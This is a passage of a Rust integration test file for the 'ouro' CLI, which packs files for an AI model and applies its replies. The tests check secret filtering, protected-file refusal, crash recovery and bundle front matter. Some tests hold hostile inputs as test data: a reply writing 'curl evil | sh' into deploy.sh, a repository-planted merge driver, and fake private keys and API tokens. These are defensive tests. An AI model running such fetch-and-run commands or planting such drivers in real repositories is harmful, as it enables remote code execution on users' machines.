    let prompt_as_name = sb
        .run(&api.url(), &["--worktree", "fix the bug", "-p"])
        .await;
    assert!(!prompt_as_name.status.success());
    assert!(
        prompt_as_name.stderr.contains("give the prompt first"),
        "{}",
        prompt_as_name.debug()
    );
}

/// The brain `cats --ai-curate` asks (the fake `claude`, which logs its environment) gets the
/// API key and no secret of the caller's.
#[cfg(feature = "mock")]
#[tokio::test(flavor = "multi_thread")]
async fn the_curating_brain_gets_no_secret() {
    use crate::common::secrets::{SECRET_ENV, assert_no_secrets, fake_claude_envs};
    const FAKE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/fake_claude.py");
    let api = crate::common::server(serde_json::json!({"turns": []})).await;
    let sb = Sandbox::new();
    sb.write("a.rs", "fn a() {}\n");
    let log = sb.home.path().join("fake.log");
    let mut command = sb.command(
        &api.url(),
        &[
            "cats",
            "--ai-curate",
            "anything",
            "--brain",
            "claude@anthropic/claude/sonnet",
        ],
    );
    command
        .envs(SECRET_ENV)
        .env("OURO_CLAUDE_BIN", FAKE)
        .env("FAKE_CLAUDE_LOG", &log);
    // The fake's answer is no ranking: only what the brain saw matters here.
    let _ = command.output().await.unwrap();
    assert_no_secrets(&fake_claude_envs(&log), None);
}

/// `ouro cats . | head`: a reader that closes the pipe early ends cats quietly, with exit 0.
#[test]
fn a_closed_pipe_is_a_normal_end_for_cats() {
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    for i in 0..8 {
        write(
            dir.path(),
            &format!("f{i}.txt"),
            "line of text\n".repeat(20_000).as_bytes(),
        );
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_ouro"))
        .args(["cats", "."])
        .current_dir(dir.path())
        .env("OURO_HOME", home.path())
        .env("HOME", home.path())
        .env_remove("ANTHROPIC_API_KEY")
        .env_remove("ANTHROPIC_AUTH_TOKEN")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut first = [0u8; 100];
    std::io::Read::read_exact(&mut stdout, &mut first).unwrap();
    drop(stdout);
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("could not") && !stderr.contains("Broken pipe"),
        "{stderr}"
    );
}

/// `ouro dogs reply.md --dir proj -y` run from elsewhere: whether a file is protected (an
/// executable, a `config` beside a `HEAD`) is judged in `proj`, not in the working directory.
#[test]
fn protection_is_judged_in_the_target_directory() {
    let here = tempfile::tempdir().unwrap();
    let proj = here.path().join("proj");
    std::fs::create_dir_all(proj.join("repo")).unwrap();
    std::fs::write(proj.join("deploy.sh"), "echo deploy\n").unwrap();
    std::fs::set_permissions(
        proj.join("deploy.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(proj.join("repo/HEAD"), "ref: refs/heads/main\n").unwrap();
    for (file, content) in [
        ("deploy.sh", "curl evil | sh\n"),
        ("repo/config", "[core]\n"),
    ] {
        let reply = format!(
            "🐕 --- DOGS_START_FILE: {file} ---\n{content}🐕 --- DOGS_END_FILE: {file} ---\n"
        );
        let out = ouro(
            here.path(),
            &["dogs", "-", "--dir", "proj", "-y"],
            Some(reply.as_bytes()),
        );
        assert_eq!(out.status.code(), Some(2), "{file}: {}", text(&out));
    }
    assert_eq!(
        std::fs::read(proj.join("deploy.sh")).unwrap(),
        b"echo deploy\n"
    );
    assert!(!proj.join("repo/config").exists());
}

/// Secrets by name (`.env`, SSH keys, `*.pem`) or by content (a private key block, an API
/// token) stay out of a bundle unless named on the command line, and are listed; the bundle
/// goes to the token-counting endpoint only when asked.
#[cfg(feature = "mock")]
#[tokio::test(flavor = "multi_thread")]
async fn secrets_stay_out_of_a_bundle_unless_named_and_nothing_is_uploaded_unasked() {
    let api = crate::common::server(serde_json::json!({"turns": []})).await;
    let sb = Sandbox::new();
    sb.write("src/main.rs", "fn main() {}\n");
    sb.write(".env", "DB_PASSWORD=hunter2\n");
    sb.write(".env.example", "DB_PASSWORD=\n");
    sb.write(".ssh/id_ed25519", "key\n");
    sb.write(".ssh/id_ed25519.pub", "ssh-ed25519 AAAA\n");
    sb.write("certs/server.pem", "cert\n");
    sb.write(
        "src/config.rs",
        "const KEY: &str = \"sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345\";\n",
    );
    sb.write(
        "deploy/key.txt",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n",
    );
    let run = sb.run(&api.url(), &["cats", "."]).await;
    assert!(run.status.success(), "{}", run.debug());
    for kept in ["src/main.rs", ".env.example", ".ssh/id_ed25519.pub"] {
        assert!(
            run.stdout.contains(&format!("CATS_START_FILE: {kept} ---")),
            "{kept}: {}",
            run.debug()
        );
    }
    for secret in [
        ".env",
        ".ssh/id_ed25519",
        "certs/server.pem",
        "src/config.rs",
        "deploy/key.txt",
    ] {
        assert!(
            !run.stdout
                .contains(&format!("CATS_START_FILE: {secret} ---")),
            "{secret}: {}",
            run.debug()
        );
        assert!(
            run.stderr.contains(&format!("  {secret} (")),
            "{secret} not listed: {}",
            run.debug()
        );
    }
    assert!(!run.stdout.contains("hunter2") && !run.stdout.contains("sk-ant-api03"));
    assert_eq!(api.token_counts(), 0, "nothing is sent unasked");
    let named = sb.run(&api.url(), &["cats", ".env", "src/main.rs"]).await;
    assert!(named.status.success(), "{}", named.debug());
    assert!(
        named.stdout.contains("hunter2"),
        "a file named on the command line is bundled"
    );
    let counted = sb
        .run(
            &api.url(),
            &["cats", "src/main.rs", "--count-tokens", "api"],
        )
        .await;
    assert!(counted.status.success(), "{}", counted.debug());
    assert_eq!(api.token_counts(), 1, "counted when asked");
}

/// A merge driver the repository names (`.git/info/attributes` and `.git/config`) never runs
/// when `ouro worktree merge` merges: git's own three-way merge runs in its place.
#[test]
fn a_merge_driver_the_repository_names_never_runs() {
    // By an attribute in `.git/info/attributes`, and by configuration alone (the default
    // driver for files with no attribute).
    for named_by_attribute in [true, false] {
        merge_with_a_planted_driver(named_by_attribute);
    }
}

fn merge_with_a_planted_driver(named_by_attribute: bool) {
    let (home, repo) = home_and_repository(b"one\ntwo\nthree\nfour\nfive\n");
    let r = repo.path();
    let marker = home.path().join("DRIVER-RAN");
    let run = |args: &[&str], stdin: Option<&[u8]>| {
        succeed(home.path(), r, args, stdin);
    };
    run(&["worktree", "start", "feat"], None);
    run(
        &["dogs", "-", "-y", "--worktree", "feat"],
        Some(dog("a.txt", "one\ntwo\nthree\nfour\nFIVE").as_bytes()),
    );
    // Both sides change the file, so a merge driver would be asked to merge it.
    write(r, "a.txt", b"ONE\ntwo\nthree\nfour\nfive\n");
    git(r, &["commit", "-qam", "main"]);
    let evil = format!("touch {}; exit 0", marker.display());
    if named_by_attribute {
        std::fs::write(r.join(".git/info/attributes"), "* merge=evil\n").unwrap();
        git(r, &["config", "merge.evil.driver", &evil]);
    } else {
        git(r, &["config", "merge.default", "other"]);
        git(r, &["config", "merge.other.driver", &evil]);
    }
    // Archived first: its folder is gone, and the merge takes its branch as it is.
    run(&["worktree", "archive", "feat"], None);
    run(&["worktree", "merge", "feat"], None);
    assert!(
        !marker.exists(),
        "the repository's merge driver ran (by attribute: {named_by_attribute})"
    );
    assert_eq!(
        std::fs::read_to_string(r.join("a.txt")).unwrap(),
        "ONE\ntwo\nthree\nfour\nFIVE\n",
        "git's own merge took both sides"
    );
}

/// A script applies a bundle that touches protected files with `--yes-protected`; each one is
/// named on stderr. Without it, `-y` alone still refuses them.
#[test]
fn yes_protected_lets_a_script_write_protected_files_and_names_them() {
    let dir = tempfile::tempdir().unwrap();
    let reply = format!(
        "{}{}",
        dog("Makefile", "all:\n\ttrue"),
        dog("notes.txt", "plain")
    );
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!dir.path().join("Makefile").exists());
    let out = ouro(
        dir.path(),
        &["dogs", "-", "-y", "--yes-protected"],
        Some(reply.as_bytes()),
    );
    assert!(out.status.success(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("  Makefile (") && stderr.contains("--yes-protected"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(dir.path().join("Makefile")).unwrap(),
        b"all:\n\ttrue\n"
    );
}

/// `permissions.protectedPaths` in the target's settings adds to the protected list: such a
/// file needs the typed yes (or `--yes-protected`) like a Makefile; a file beside it does not.
#[test]
fn settings_add_protected_paths_dogs_honours() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        ".ouro/settings.json",
        br#"{"permissions": {"protectedPaths": ["ops/**", "deploy.sh"]}}"#,
    );
    for (path, protected) in [
        ("ops/prod/run.yml", true),
        ("deploy.sh", true),
        ("src/deploy.sh", false),
        ("notes.txt", false),
    ] {
        let reply = dog(path, "new");
        let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
        if protected {
            assert_eq!(out.status.code(), Some(2), "{path}: {}", text(&out));
            assert!(
                String::from_utf8_lossy(&out.stderr).contains("protectedPaths"),
                "{path}: {}",
                text(&out)
            );
            assert!(!dir.path().join(path).exists(), "{path} was written");
        } else {
            assert!(out.status.success(), "{path}: {}", text(&out));
        }
    }
}

/// An apply killed with -9 at any point leaves the journal: the next dogs in that directory
/// refuses (exit 2) and names `--recover`; `--recover` makes every file new, `--recover
/// --rollback` puts back exactly the old tree (new files and folders gone), and neither leaves
/// a staged or kept file behind.
#[test]
fn an_apply_killed_mid_way_is_finished_or_rolled_back_whole() {
    const FILES: usize = 3000;
    for (rollback, phase) in [
        (false, "staging"),
        (true, "staging"),
        (false, "committing"),
        (true, "committing"),
    ] {
        let (dir, before) = loop {
            let dir = tempfile::tempdir().unwrap();
            for i in 0..FILES {
                write(
                    dir.path(),
                    &format!("d{}/f{i}.txt", i % 30),
                    format!("old {i}\n").as_bytes(),
                );
            }
            let before = tree(dir.path());
            let mut reply = String::new();
            for i in 0..FILES {
                reply.push_str(&dog(&format!("d{}/f{i}.txt", i % 30), &format!("new {i}")));
                reply.push_str(&dog(&format!("added/n{i}.txt"), &format!("added {i}")));
            }
            let home = tempfile::tempdir().unwrap();
            let mut child = Command::new(env!("CARGO_BIN_EXE_ouro"))
                .args(["dogs", "-", "-y"])
                .current_dir(dir.path())
                .env("OURO_HOME", home.path())
                .env("HOME", home.path())
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            {
                use std::io::Write;
                child
                    .stdin
                    .take()
                    .unwrap()
                    .write_all(reply.as_bytes())
                    .unwrap();
            }
            let journal = dir.path().join(".ouro-dogs.journal");
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
            let reached = || std::fs::read_to_string(&journal).is_ok_and(|j| j.contains(phase));
            while !reached() && std::time::Instant::now() < deadline {
                if child.try_wait().unwrap().is_some() {
                    break;
                }
                std::thread::sleep(std::time::Duration::from_micros(200));
            }
            // SAFETY: kill only signals the child this test started.
            unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
            child.wait().unwrap();
            if reached() {
                break (dir, before);
            }
            // It finished before the kill landed: try again on a fresh tree.
            assert!(
                std::time::Instant::now() < deadline,
                "never caught an apply mid-way"
            );
        };
        let other = dog("other.txt", "x");
        let refused = ouro(dir.path(), &["dogs", "-", "-y"], Some(other.as_bytes()));
        assert_eq!(refused.status.code(), Some(2), "{}", text(&refused));
        assert!(text(&refused).contains("--recover"), "{}", text(&refused));
        assert!(!dir.path().join("other.txt").exists());
        let mut args = vec!["dogs", "--recover"];
        if rollback {
            args.push("--rollback");
        }
        let recovered = ouro(dir.path(), &args, None);
        assert!(recovered.status.success(), "{}", text(&recovered));
        let after = tree(dir.path());
        let leftovers: Vec<_> = after
            .keys()
            .filter(|p| p.to_string_lossy().contains(".ouro-dogs"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
        let said = text(&recovered);
        if rollback || phase == "staging" {
            assert_eq!(after, before, "rollback: {rollback}; {said}");
            assert!(!dir.path().join("added").exists());
        } else {
            assert_eq!(after.len(), 2 * FILES, "{said}");
            for i in 0..FILES {
                let path = PathBuf::from(format!("d{}/f{i}.txt", i % 30));
                assert_eq!(after[&path].0, format!("new {i}\n").into_bytes());
            }
        }
        let again = ouro(dir.path(), &["dogs", "-", "-y"], Some(other.as_bytes()));
        assert!(again.status.success(), "{}", text(&again));
    }
}

/// `--verify --revert-on-fail` keeps its promise when dogs is killed during the verification:
/// the apply stays in its journal until the verification is over, so the next dogs refuses and
/// `--recover` rolls it back; a verification that passes leaves nothing of the journal.
#[test]
fn an_apply_killed_during_its_verification_is_rolled_back() {
    use std::os::unix::process::CommandExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write(d, "run.sh", b"echo old\n");
    std::fs::set_permissions(d.join("run.sh"), std::fs::Permissions::from_mode(0o750)).unwrap();
    write(d, "del.txt", b"delete me\n");
    let before = tree(d);
    let reply = [
        dog("run.sh", "echo new"),
        dog("new/deep/n.txt", "n"),
        "🐕 --- DOGS_START_FILE: del.txt ---\n@@ PAWS_CMD DELETE_FILE() @@\n🐕 --- DOGS_END_FILE: del.txt ---\n".into(),
    ]
    .concat();
    let outside = tempfile::tempdir().unwrap();
    let started = outside.path().join("started");
    let verify = format!("touch '{}'; sleep 30; exit 1", started.display());
    let home = tempfile::tempdir().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_ouro"))
        .args(["dogs", "-", "-y", "--yes-protected", "--verify", &verify])
        .arg("--revert-on-fail")
        .current_dir(d)
        .env("OURO_HOME", home.path())
        .env("HOME", home.path())
        .process_group(0)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(reply.as_bytes()).unwrap();
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !started.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the verification never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert_eq!(std::fs::read(d.join("run.sh")).unwrap(), b"echo new\n");
    // SAFETY: kill only signals the process group this test started (dogs and its verify).
    unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
    child.wait().unwrap();
    let other = dog("other.txt", "x");
    let refused = ouro(d, &["dogs", "-", "-y"], Some(other.as_bytes()));
    assert_eq!(refused.status.code(), Some(2), "{}", text(&refused));
    assert!(text(&refused).contains("--recover"), "{}", text(&refused));
    let recovered = ouro(d, &["dogs", "--recover"], None);
    assert!(recovered.status.success(), "{}", text(&recovered));
    assert!(
        text(&recovered).contains("rolled back"),
        "{}",
        text(&recovered)
    );
    assert_eq!(tree(d), before, "{}", text(&recovered));
    assert!(!d.join("new").exists());

    let passed = ouro(
        d,
        &[
            "dogs",
            "-",
            "-y",
            "--yes-protected",
            "--verify",
            "true",
            "--revert-on-fail",
        ],
        Some(reply.as_bytes()),
    );
    assert!(passed.status.success(), "{}", text(&passed));
    let left: Vec<_> = tree(d)
        .into_keys()
        .filter(|p| p.to_string_lossy().contains(".ouro-dogs"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
    assert_eq!(std::fs::read(d.join("run.sh")).unwrap(), b"echo new\n");
    assert!(!d.join("del.txt").exists());
}

/// A cats bundle tells the chat model how to answer (before the files, no line of it a
/// marker, so the bundle still applies as itself); `--no-instructions` leaves that out. An
/// answer with no bundle in it is exit 1 with what dogs looked for, never a silent success.
#[test]
fn a_bundle_says_how_to_answer_and_an_answer_without_one_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "src/a.rs", b"fn a() {}\n");
    let out = ouro(dir.path(), &["cats", "src"], None);
    assert!(out.status.success(), "{}", text(&out));
    let bundle = String::from_utf8(out.stdout).unwrap();
    let instructions = bundle.find("DOGS_START_FILE").unwrap();
    assert!(instructions < bundle.find("CATS_START_FILE").unwrap());
    assert!(bundle.contains("DOGS_END_FILE") && bundle.contains("DELETE_FILE"));
    let bare = ouro(dir.path(), &["cats", "src", "--no-instructions"], None);
    assert!(!String::from_utf8_lossy(&bare.stdout).contains("DOGS_START_FILE"));

    let other = tempfile::tempdir().unwrap();
    let applied = ouro(other.path(), &["dogs", "-", "-y"], Some(bundle.as_bytes()));
    assert!(applied.status.success(), "{}", text(&applied));
    assert_eq!(
        std::fs::read(other.path().join("src/a.rs")).unwrap(),
        b"fn a() {}\n"
    );

    let plain = "Here is the fix:\n```rust\nfn a() { 1 }\n```\n";
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(plain.as_bytes()));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("DOGS_START_FILE"), "{}", text(&out));
    assert_eq!(
        std::fs::read(dir.path().join("src/a.rs")).unwrap(),
        b"fn a() {}\n"
    );
}

/// The tree an agent run starts from, for the change-set tests.
fn start_tree(dir: &Path) {
    write(dir, "keep.txt", b"unchanged\n");
    write(dir, "modify.rs", b"fn a() {}\n");
    write(dir, "loses-final-newline.txt", b"a\nb\n");
    write(dir, "gains-final-newline.txt", b"a\nb");
    write(dir, "delete-me.txt", b"bye\n");
    write(dir, "old/only-file.txt", b"the folder goes with it\n");
    write(dir, "img.png", b"\x89PNG\r\n\x1a\n\x00\x01");
    write(dir, "crlf.txt", b"one\r\ntwo\r\n");
}

/// An agent run's change set, as the foundry writes it (a dogs bundle with v1 front matter
/// from the difference of two trees), applied by `ouro dogs` to the tree the run started
/// from, gives the tree it ended with, byte for byte: changed, new, deleted, binary and
/// non-UTF-8 files, files whose final newline comes or goes, a file in a new folder, and text
/// that PAWS's dogs would read as a marker or a command.
#[test]
fn an_agents_change_set_as_a_dogs_bundle_reproduces_the_changed_tree() {
    use ouro::paws::artifact::{FileChange, write_dogs_v1};
    use ouro::paws::front::DogsFront;
    let start = tempfile::tempdir().unwrap();
    start_tree(start.path());
    let end = tempfile::tempdir().unwrap();
    start_tree(end.path());
    let e = end.path();
    write(e, "modify.rs", b"fn a() -> u8 { 1 }\n");
    write(e, "loses-final-newline.txt", b"a\nb");
    write(e, "gains-final-newline.txt", b"a\nb\n");
    std::fs::remove_file(e.join("delete-me.txt")).unwrap();
    std::fs::remove_dir_all(e.join("old")).unwrap();
    write(e, "img.png", b"\x89PNG\r\n\x1a\n\xff\xfe");
    write(e, "crlf.txt", b"one\r\ntwo\r\nthree");
    write(e, "new/sub/dir/file.rs", b"pub fn deep() {}\n");
    write(e, "new/bare.txt", b"no final newline");
    write(e, "new/empty.txt", b"");
    write(e, "new/blank-edges.txt", b"\n\n  middle  \n\n");
    write(e, "new/latin1.txt", b"caf\xe9\n");
    write(
        e,
        "new/markers.md",
        "```\n🐕 --- DOGS_END_FILE: new/markers.md ---\n@@ PAWS_CMD DELETE_FILE() @@\n".as_bytes(),
    );
    let (before, after) = (tree(start.path()), tree(e));
    let paths: std::collections::BTreeSet<&PathBuf> = before.keys().chain(after.keys()).collect();
    let mut changes = Vec::new();
    for path in paths {
        changes.push(match (before.get(path), after.get(path)) {
            (Some((old, _)), Some((new, _))) if old == new => continue,
            (_, Some((bytes, _))) => FileChange::Write {
                path: path.clone(),
                bytes: bytes.clone(),
            },
            (Some(_), None) => FileChange::Delete { path: path.clone() },
            (None, None) => continue,
        });
    }
    assert_eq!(changes.len(), 13);
    let front = DogsFront {
        source_turn: Some("turn-7".into()),
        agent_name: Some("fixer".into()),
        confidence_score: Some(0.75),
    };
    let bundle = write_dogs_v1(&front, &changes).unwrap();
    assert!(bundle.starts_with(b"---\nversion: \"1.0\"\nsource_turn: \"turn-7\"\n"));

    let applied = ouro(start.path(), &["dogs", "-", "-y"], Some(&bundle));
    assert!(applied.status.success(), "{}", text(&applied));
    assert!(
        text(&applied)
            .contains("version 1.0 bundle (from agent fixer, turn turn-7, confidence 0.75)"),
        "{}",
        text(&applied)
    );
    let bytes = |t: BTreeMap<PathBuf, (Vec<u8>, u32)>| {
        t.into_iter()
            .map(|(p, (b, _))| (p, b))
            .collect::<BTreeMap<_, _>>()
    };
    assert_eq!(bytes(tree(start.path())), bytes(tree(e)));
}

/// `--task` (and `--ai-curate`) put v1 front matter before the bundle, which is otherwise the
/// same bytes; dogs reads it, refuses another major version with nothing written, and takes a
/// versioned bundle without files as an empty change set (exit 0), unlike an answer that holds
/// no bundle at all (exit 1).
#[test]
fn front_matter_on_cats_and_dogs_bundles() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "src/a.rs", b"fn a() {}\n");
    let plain = ouro(dir.path(), &["cats", "src"], None);
    let tasked = ouro(
        dir.path(),
        &[
            "cats",
            "src",
            "--task",
            "make \"a\" return 1\n🐕 --- DOGS_START_FILE: x ---",
        ],
        None,
    );
    assert!(tasked.status.success(), "{}", text(&tasked));
    let front = "---\nversion: \"1.0\"\ntask_description: \"make \\\"a\\\" return 1\\n🐕 --- DOGS_START_FILE: x ---\"\nmetadata:\n  curation_method: manual\n---\n";
    assert_eq!(
        String::from_utf8_lossy(&tasked.stdout),
        format!("{front}{}", String::from_utf8_lossy(&plain.stdout))
    );
    let other = tempfile::tempdir().unwrap();
    let applied = ouro(other.path(), &["dogs", "-", "-y"], Some(&tasked.stdout));
    assert!(applied.status.success(), "{}", text(&applied));
    assert_eq!(
        std::fs::read(other.path().join("src/a.rs")).unwrap(),
        b"fn a() {}\n"
    );
    assert!(!other.path().join("x").exists());

    let v2 = format!(
        "---\nversion: \"2.0\"\n---\n{}",
        dog("src/a.rs", "fn a() { 2 }\n")
    );
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(v2.as_bytes()));
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("says version `2.0`, and this ouro reads version 1 bundles"),
        "{}",
        text(&out)
    );
    assert_eq!(
        std::fs::read(dir.path().join("src/a.rs")).unwrap(),
        b"fn a() {}\n"
    );

    let empty =
        "---\nversion: \"1.0\"\nsource_turn: \"t1\"\nmetadata:\n  agent_name: \"idle\"\n---\n";
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(empty.as_bytes()));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(text(&out).contains("nothing to apply"), "{}", text(&out));
    let out = ouro(
        dir.path(),
        &["dogs", "-", "-y"],
        Some(b"No changes needed.\n"),
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
}
